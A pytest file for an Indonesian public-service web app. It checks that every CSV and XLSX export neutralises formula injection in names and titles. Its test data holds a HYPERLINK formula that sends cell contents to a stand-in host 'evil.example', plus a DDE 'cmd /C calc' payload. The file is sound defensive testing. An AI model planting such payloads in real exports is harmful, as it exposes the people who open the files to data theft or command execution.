"""Formula injection (security M1): every XLSX and CSV export writes formula-like text as text.

A citizen's name, a service's title or a counter's name can start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return. Each export below is fed such a value through
the app and read back: no XLSX cell may be a formula, and no CSV cell may start with a
formula character.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from flask import url_for
from openpyxl import Workbook, load_workbook

from antrian.issuing import issue_ticket
from antrian.service import call_next, finish
from webapp.berkas.service import Applicant, register
from webapp.core.db import utcnow
from webapp.core.extensions import db
from webapp.core.localtime import local_today
from webapp.core.tables import FORMULA_TRIGGERS, append_row, csv_safe, csv_text, workbook_bytes
from webapp.pengaduan.service import ComplaintInput, file_complaint
from webapp.survei.filing import file_response
from webapp.survei.models import ELEMENT_CODES
from webapp.survei.periods import Period

MONDAY_9 = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)  # 09.00 WIB, a working day
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _cells(data: bytes) -> list:
    """Every cell of every sheet of a workbook."""
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_xlsx_has_text_not_formula(data: bytes, text: str) -> None:
    cells = _cells(data)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a cell became a formula"
    holding = [cell for cell in cells if isinstance(cell.value, str) and text in cell.value]
    assert holding, f"{text!r} is not in the export at all"
    assert all(cell.data_type == "s" for cell in holding)


def _assert_csv_cells_are_inert(text: str, value: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert "'" + value in cells


# --- the writer itself -------------------------------------------------------------------------


def test_every_formula_character_is_neutralised_in_both_formats():
    values = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "Budi", "", 42, -3, None]
    assert [csv_safe(v) for v in values] == ["'=1+1", "'+1+1", "'-1+1", "'@SUM(A1)", "'\t=1", "'\r=1",
                                             "Budi", "", 42, -3, None]
    book = Workbook()
    append_row(book.active, values)
    cells = _cells(workbook_bytes(book))
    # Kept as typed, as text (the standard library's XML parser reads a carriage return back as a
    # line feed; lxml, which python-docx and pyHanko bring in and openpyxl then uses, keeps it).
    assert [c.value.replace("\r", "\n") for c in cells[:6]] == [v.replace("\r", "\n") for v in values[:6]]
    assert [c.data_type for c in cells[:6]] == ["s"] * 6
    assert (cells[8].value, cells[8].data_type, cells[9].value) == (42, "n", -3)  # numbers stay numbers


def test_a_cell_written_around_the_helpers_is_still_saved_as_text():
    book = Workbook()
    book.active["B2"] = "=1+1"  # openpyxl alone would store a formula
    assert book.active["B2"].data_type == "f"
    assert [c.data_type for c in _cells(workbook_bytes(book)) if c.value == "=1+1"] == ["s"]


def test_csv_text_writes_every_row_safely():
    assert csv_text([["Nama"], ["=cmd|' /C calc'!A0"]]).splitlines() == ["Nama", "'=cmd|' /C calc'!A0"]


# --- each export ---------------------------------------------------------------------------------


def test_berkas_list_csv_and_xlsx(client, login, make_service, make_user):
    service = make_service()
    officer = make_user(role="petugas_loket")
    register(service, Applicant(HYPERLINK, "nik", "1471010101010001", "081234567890", address="Jl. Uji 1"),
             [True, True], officer)
    db.session.commit()
    login("admin")
    _assert_csv_cells_are_inert(client.get(url_for("berkas.index", format="csv")).get_data(as_text=True), HYPERLINK)
    xlsx = client.get(url_for("berkas.index", format="xlsx"))
    assert xlsx.mimetype == XLSX
    _assert_xlsx_has_text_not_formula(xlsx.data, HYPERLINK)


def test_queue_statistics_csv_and_xlsx(client, login, make_queue):
    q = make_queue()
    q["loket1"].name = "@SUM(1+1)*cmd"
    db.session.commit()
    ticket = issue_ticket(q["A"], now=MONDAY_9)
    call_next(q["loket1"], now=MONDAY_9 + timedelta(minutes=5))
    finish(q["loket1"], ticket.id, now=MONDAY_9 + timedelta(minutes=9))
    login("admin")
    day = local_today(q["unit"], MONDAY_9).isoformat()
    url = {"slug": q["unit"].slug, "dari": day, "sampai": day}
    csv_export = client.get(url_for("antrian.statistics", format="csv", **url)).get_data(as_text=True)
    _assert_csv_cells_are_inert(csv_export, "@SUM(1+1)*cmd")
    _assert_xlsx_has_text_not_formula(client.get(url_for("antrian.statistics", format="xlsx", **url)).data,
                                      "@SUM(1+1)*cmd")


def test_buku_pengaduan_xlsx(client, login):
    file_complaint(ComplaintInput(description="Uraian pengaduan yang cukup.", name=HYPERLINK, phone="081234567890"))
    db.session.commit()
    login("tim_pengaduan")
    _assert_xlsx_has_text_not_formula(client.get(url_for("pengaduan.book", format="xlsx")).data, HYPERLINK)


def test_monthly_complaint_report_xlsx(client, login, make_service):
    service = make_service(title="=1+2 Layanan Uji")
    complaint, _ = file_complaint(ComplaintInput(description="Uraian pengaduan yang cukup.", phone="081234567890",
                                                 service=service))
    db.session.commit()
    login("tim_pengaduan")
    today = local_today(service.unit, utcnow())
    response = client.get(url_for("pengaduan.report_xlsx", year=today.year, month=today.month))
    assert complaint.received_on.month == today.month
    _assert_xlsx_has_text_not_formula(response.data, "=1+2 Layanan Uji")


def test_survey_tabulation_xlsx(client, login, make_service):
    service = make_service(title="+62 Layanan Uji")
    file_response(service=service, answers=dict.fromkeys(ELEMENT_CODES, 3), sex="P", age=30, education="sma",
                  occupation="swasta", actor=None)
    db.session.commit()
    login("kepala_dinas")
    period = Period.semester_of(local_today(service.unit))
    response = client.get(url_for("survei.tabulation", slug=service.unit.slug, periode=period.key))
    _assert_xlsx_has_text_not_formula(response.data, "+62 Layanan Uji")
